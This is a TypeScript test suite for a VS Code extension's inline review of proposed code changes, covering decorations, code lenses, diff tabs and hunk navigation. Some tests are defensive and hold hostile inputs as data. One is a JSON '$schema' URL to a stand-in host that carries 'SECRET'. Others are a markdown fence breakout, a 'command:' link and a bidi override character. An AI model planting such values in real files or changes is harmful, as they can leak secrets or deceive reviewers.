import assert from 'node:assert/strict';
import type * as vscode from 'vscode';
import type { Command, CommandContext } from '../../src/host/commands/command.ts';
import { acceptAll, acceptHunk, decideLater, nextHunk, previousHunk, rejectAll, rejectHunk, showDiff } from '../../src/host/commands/reviewCommands.ts';
import { createInlineReview, type InlineReview } from '../../src/host/review/inlineReview.ts';
import { until } from '../support/until.ts';
import { settle } from './fakes.ts';
import { answers, called, fired, registered, reset, TabInputTextDiff, Uri, window, workspace } from './fakeVscode.ts';
import { drawnIn, fakeDocument, fakeEditorOn, fakeReviews, placeOf, reviewOf, type FakeDocument, type FakeEditor, type FakeReviews } from './reviewFakes.ts';

const before = ['first', 'let a = 1;', 'middle', 'same', 'last', ''].join('\n');
const after = ['first', 'const a = 1;', 'middle', 'same', 'new', 'last', ''].join('\n');
const path = '/w/a.ts';

function open(document: FakeDocument, line = 0): FakeEditor {
  const editor = fakeEditorOn(document, line);
  window.visibleTextEditors = [editor];
  window.activeTextEditor = editor;
  fired.visible.fire([editor]);
  fired.active.fire(editor);
  return editor;
}

function lenses(document: FakeDocument): readonly vscode.CodeLens[] {
  const provider = called('registerCodeLensProvider')[0]?.[1] as vscode.CodeLensProvider;
  return provider.provideCodeLenses(document as never, {} as never) as vscode.CodeLens[];
}

function contexts(name: string): unknown {
  return called('executeCommand').filter(([id, own]) => id === 'setContext' && own === name).at(-1)?.[2];
}

const tab = (token: string): { readonly input: unknown } => ({ input: new TabInputTextDiff(Uri.parse(`rivulet-review:/${token}/0/before/a.ts`), Uri.parse(`rivulet-review:/${token}/0/after/a.ts`)) });

/** The tab of a diff of several files, of which the editor's types know nothing. */
const several = (...tokens: readonly string[]): unknown => ({ input: { textDiffs: tokens.map((token) => tab(token).input) } });

function titles(document: FakeDocument): readonly string[] {
  return lenses(document).map(({ range, command }) => `${range.start.line} ${command?.title.replace(')\u00A0', ') ') ?? ''}`);
}

/** The arguments of the first run of a command. */
function executed(command: string): readonly unknown[] {
  return called('executeCommand').find(([id]) => id === command)?.slice(1) ?? [];
}

describe('a review in the editor', () => {
  let reviews: FakeReviews;
  let inline: InlineReview;

  beforeEach(() => {
    reset();
    reviews = fakeReviews();
    inline = createInlineReview(reviews);
  });

  afterEach(() => inline.dispose());

  async function run(command: Command, ...args: readonly unknown[]): Promise<void> {
    await command.run({ reviews, inlineReview: inline } as unknown as CommandContext, ...args);
  }

  it('strikes out what goes, shows what comes beside it, and has the whole hunk in a hover', () => {
    const editor = open(fakeDocument(path, before));
    assert.equal(editor.drawn.size, 0);
    reviews.wait(reviewOf('t', { path, before, after }));
    const drawn = drawnIn(editor);
    assert.deepEqual(drawn.filter(({ text }) => text !== undefined).map(({ line, text }) => [line, text]), [[1, 'const a = 1;'], [3, '⏎ new']]);
    assert.ok(drawn.some(({ line, look }) => line === 1 && look.includes('line-through')));
    assert.match(drawn.find(({ line }) => line === 1)?.hover ?? '', /```diff\n-let a = 1;\n\+const a = 1;\n```/);
    assert.ok(drawn.every(({ look }) => !/#[0-9a-f]{3}|rgb/i.test(look)), 'only colours of the theme');
  });

  it('takes everything away when nothing waits any more', () => {
    const editor = open(fakeDocument(path, before));
    reviews.wait(reviewOf('t', { path, before, after }));
    reviews.wait();
    assert.deepEqual(drawnIn(editor), []);
    assert.deepEqual(lenses(editor.document), []);
    assert.equal(contexts('rivulet.reviewing'), false);
  });

  it('lets no content close the fence of its hover, nor hide anything in it or beside the line', () => {
    const editor = open(fakeDocument(path, 'x'));
    reviews.wait(reviewOf('t', { path, before: 'x', after: '```\n````\n[run](command:x)\u202E' }));
    const [{ hover = '', text = '' } = {}] = drawnIn(editor).filter((each) => each.text !== undefined);
    assert.match(hover, /\n`````diff\n-x\n\+```\n\+````\n\+\[run\]\(command:x\)\\u\{202E\}\n`````\n$/);
    assert.ok(!/\u202E/.test(hover + text) && text.includes(String.raw`\u{202E}`));
  });

  it('marks an accepted hunk, and draws a rejected one no more', () => {
    const editor = open(fakeDocument(path, before));
    reviews.wait(reviewOf('t', { path, before, after, decisions: ['accepted', 'rejected'] }));
    assert.deepEqual(drawnIn(editor).flatMap(({ text }) => text ?? []), ['✓ const a = 1;']);
    assert.deepEqual(titles(editor.document), ['1 $(pass-filled) Accepted, applied when all is decided']);
  });

  it('has everything that can be done above each hunk, in file, untitled and cell', () => {
    for (const address of [path, 'untitled:Untitled-1', 'vscode-notebook-cell:/w/n.ipynb#W0']) {
      const document = fakeDocument(address, before);
      reviews.wait(reviewOf('t', { path: address, before, after }));
      assert.deepEqual(titles(document), [1, 3].flatMap((line) => ['$(check) Accept', '$(close) Reject', 'Show diff', 'Accept all', 'Reject all', 'Later'].map((title) => `${line} ${title}`)), address);
    }
    const [selector] = called('registerCodeLensProvider')[0] ?? [];
    assert.deepEqual((selector as { scheme: string }[]).map(({ scheme }) => scheme), ['file', 'untitled', 'vscode-notebook-cell']);
  });

  it('parts icons from words by a space that is shown', () => {
    reviews.wait(reviewOf('t', { path, before, after }));
    assert.deepEqual(lenses(fakeDocument(path, before)).slice(0, 3).map(({ command }) => command?.title), ['$(check)\u00A0Accept', '$(close)\u00A0Reject', 'Show diff']);
  });

  it('decides what a lens names, and of other files only where they are shown', async () => {
    const document = fakeDocument(path, before);
    reviews.wait(reviewOf('t', { path: '/w/other.ts', before: 'a', after: 'b' }, { path, before, after }));
    for (const { command } of lenses(document).slice(6)) {
      if (command?.command === 'rivulet.showDiff') continue;
      const own = [acceptHunk, rejectHunk, acceptAll, rejectAll, decideLater].find(({ id }) => id === command?.command);
      await run(own ?? assert.fail(command?.command), ...(command?.arguments ?? []));
    }
    assert.deepEqual(reviews.decided, [
      { token: 't', file: 1, hunk: 1, decision: 'accept' },
      { token: 't', file: 1, hunk: 1, decision: 'reject' },
      { token: 't', file: 1, decision: 'accept' },
      { token: 't', file: 1, decision: 'reject' },
      { token: 't', decision: 'later' },
    ]);
    assert.ok(titles(document).includes('1 Accept all here'));
  });

  it('decides nothing for arguments that name nothing', async () => {
    open(fakeDocument('/w/else.ts', ''));
    reviews.wait(reviewOf('t', { path, before, after }), reviewOf('u', { path, before, after }));
    const wrong: readonly (readonly unknown[])[] = [['x', 0, 0], ['t', 1, 0], ['t', 0, 2], ['t', 0, -1], ['t', 0, 0.5], ['t', '0', 0], ['t', undefined, 0], [{ token: 't' }, 0, 0], ['__proto__', 0, 0], [null], [{ scheme: 'rivulet-review', path: '/x/0/after/a.ts' }], [{ scheme: 'file', path: '/t/0' }]];
    for (const args of wrong) for (const command of [acceptHunk, rejectHunk, acceptAll, rejectAll, decideLater, showDiff]) await run(command, ...args);
    assert.deepEqual(reviews.decided, []);
    assert.deepEqual(called('openTextDocument'), []);
    assert.ok(called('setStatusBarMessage').length > 0);
  });

  it('decides the hunk at the cursor by key, and goes to one where there is none', async () => {
    const editor = open(fakeDocument(path, before), 1);
    reviews.wait(reviewOf('t', { path, before, after }));
    await run(acceptHunk);
    assert.deepEqual(reviews.decided, [{ token: 't', file: 0, hunk: 0, decision: 'accept' }]);
    assert.equal(editor.selection.start.line, 3, 'the next press is for the next hunk');
    editor.selection = fakeEditorOn(editor.document, 2).selection;
    await run(rejectHunk);
    assert.equal(reviews.decided.length, 1);
    assert.equal(editor.selection.start.line, 3);
    await run(rejectHunk);
    assert.deepEqual(reviews.decided[1], { token: 't', file: 0, hunk: 1, decision: 'reject' });
  });

  it('goes from hunk to hunk and round to the first again', async () => {
    const editor = open(fakeDocument(path, before));
    reviews.wait(reviewOf('t', { path, before, after }));
    const lines: number[] = [];
    for (const command of [nextHunk, nextHunk, nextHunk, previousHunk, previousHunk]) {
      await run(command);
      lines.push(editor.selection.start.line);
    }
    assert.deepEqual(lines, [1, 3, 1, 3, 1]);
  });

  it('follows edits elsewhere, and says of a hunk whose lines were changed that it is outdated', async () => {
    const editor = open(fakeDocument(path, before));
    reviews.wait(reviewOf('t', { path, before, after }));
    editor.document.become(`zero\n\n${before.replace('last', 'lost')}`);
    fired.edited.fire({ document: editor.document, contentChanges: [{}] });
    assert.deepEqual(titles(editor.document).filter((title) => /Accept$|changed/.test(title)), ['3 $(check) Accept', '5 $(warning) The text has changed since this was proposed']);
    await until(() => drawnIn(editor).some(({ line, text }) => line === 6 && text !== undefined), undefined, () => drawnIn(editor));
    assert.deepEqual(drawnIn(editor).filter(({ text }) => text !== undefined).map(({ line, text }) => [line, text]), [[3, 'const a = 1;'], [6, 'The text has changed since this was proposed']]);
  });

  it('scrolls to the first hunk of a review once, without taking the cursor along', () => {
    const editor = open(fakeDocument(path, before));
    reviews.wait(reviewOf('t', { path, before, after }));
    reviews.wait(reviewOf('t', { path, before, after, decisions: ['accepted'] }));
    assert.deepEqual(editor.revealed.map(({ start }) => start.line), [1]);
    assert.equal(editor.selection.start.line, 0);
    assert.deepEqual(called('showTextDocument'), []);
  });

  it('sets the context of its keys by the active editor', () => {
    open(fakeDocument('/w/else.ts', ''));
    reviews.wait(reviewOf('t', { path, before, after }));
    assert.deepEqual([contexts('rivulet.reviewing') ?? false, contexts('rivulet.reviewPending')], [false, true]);
    open(fakeDocument(path, before));
    assert.equal(contexts('rivulet.reviewing'), true);
  });

  it('opens the two sides of a diff with hidden characters written out, without what was rejected', async () => {
    open(fakeDocument(path, before));
    workspace.textDocuments = [];
    reviews.wait(reviewOf('t', { path, before: `${before}\u202E`, after: `${after}\u202E`, decisions: ['open', 'rejected'] }));
    await run(showDiff, 't', 0);
    const [left, right, title] = executed('vscode.diff') as [Uri, Uri, string];
    const provider = called('registerTextDocumentContentProvider')[0]?.[1] as vscode.TextDocumentContentProvider;
    const text = (uri: Uri): unknown => provider.provideTextDocumentContent(uri as never, {} as never);
    assert.equal(text(left), `${before}\\u{202E}`);
    assert.equal(text(right), `${before.replace('let', 'const')}\\u{202E}`);
    assert.equal(title, 'a.ts (now ↔ proposed)');
    assert.ok(left.path.endsWith('/a.ts') && right.path.endsWith('/a.ts'));
  });

  it('shows to no language server a text that names what is to be fetched, before it is decided (B19)', async () => {
    reviews.wait({ token: 't', turnId: 'x', files: [{ change: { kind: 'create', place: placeOf('/w/data.json'), after: '{"$schema":"https://evil.invalid/?d=SECRET"}' }, hunks: [] }] });
    await run(showDiff, 't', 0);
    const [left, right] = executed('vscode.diff') as [Uri, Uri];
    assert.deepEqual([left, right].map(({ path }) => path.slice(path.lastIndexOf('/') + 1)), ['data.json.txt', 'data.json.txt']);
  });

  it('opens several files together, and says of a move that there is nothing to compare', async () => {
    reviews.wait({ token: 't', turnId: 'x', files: [...reviewOf('t', { path, before, after }, { path: '/w/b.ts', before, after }).files, { change: { kind: 'move', place: placeOf('/w/c.ts'), to: placeOf('/w/d.ts') }, hunks: [] }, { change: { kind: 'create', place: placeOf('/w/new.ts'), after: 'n' }, hunks: [] }] });
    await run(showDiff, 't');
    const [title, list] = executed('vscode.changes') as [string, readonly (readonly Uri[])[]];
    assert.equal(title, 'Proposed changes (3 files)');
    assert.deepEqual(list.map(([own]) => own?.path), ['/w/a.ts', '/w/b.ts', '/w/new.ts']);
    await run(showDiff, 't', 2);
    assert.deepEqual(called('showInformationMessage').map(([words]) => words), ['c.ts would be moved to d.ts. Its text stays as it is.']);
  });

  it('leaves the diff of another review that still waits where it is', async () => {
    reviews.wait(reviewOf('t', { path, before, after }), reviewOf('u', { path: '/w/b.ts', before, after }));
    for (const shown of ['u', 't', 'decided']) {
      window.tabGroups.all = [{ tabs: [tab(shown)] }];
      await run(showDiff, 't', 0);
    }
    const options = called('executeCommand').flatMap(([id, ...rest]) => (id === 'vscode.diff' ? [rest.at(-1)] : []));
    assert.deepEqual(options, [false, true, true].map((preview) => ({ preview, preserveFocus: false })));
  });

  it('closes the diff of a review that has been decided', async () => {
    const tabs = [tab('t'), tab('u'), { input: undefined }];
    window.tabGroups.all = [{ tabs }];
    reviews.wait(reviewOf('u', { path, before, after }));
    await settle();
    assert.deepEqual(called('tabGroups.close'), [[[tabs[0]], true]]);
  });

  it('closes the diff of several files when all of them have been decided, and minds no tab that is gone already', async () => {
    const tabs = [several('t', 't'), several('t', 'u'), several(), { input: {} }];
    window.tabGroups.all = [{ tabs }];
    const unhandled: unknown[] = [];
    const note = (error: unknown): void => void unhandled.push(error);
    process.on('unhandledRejection', note);
    answers.set('tabGroups.close', [Promise.reject(new Error('Tab close: Invalid tab not found!'))]);
    reviews.wait(reviewOf('u', { path, before, after }));
    await settle();
    process.off('unhandledRejection', note);
    assert.deepEqual(unhandled, []);
    assert.deepEqual(called('tabGroups.close'), [[[tabs[0]], true]]);
  });

  it('writes a diff that is open anew when a hunk is rejected in the card, and keeps it when its language is set', async () => {
    workspace.textDocuments = [fakeDocument(path, before, 'typescript')];
    reviews.wait(reviewOf('t', { path, before, after }));
    await run(showDiff, 't', 0);
    const [, right] = executed('vscode.diff') as [Uri, Uri];
    const provider = called('registerTextDocumentContentProvider')[0]?.[1] as vscode.TextDocumentContentProvider;
    const text = (): unknown => provider.provideTextDocumentContent(right as never, {} as never);
    const written: string[] = [];
    provider.onDidChange?.(({ path: own }) => written.push(own));
    fired.closed.fire({ uri: right, isClosed: false });
    reviews.wait(reviewOf('t', { path, before, after, decisions: ['accepted', 'open'] }));
    assert.deepEqual([text(), written], [after, []]);
    reviews.wait(reviewOf('t', { path, before, after, decisions: ['accepted', 'rejected'] }));
    assert.deepEqual([text(), written], [before.replace('let', 'const'), [right.path]]);
    fired.closed.fire({ uri: right, isClosed: true });
    assert.equal(text(), 'This change has been decided.');
  });

  it('leaves nothing behind', () => {
    inline.dispose();
    assert.deepEqual([...registered], []);
  });
});
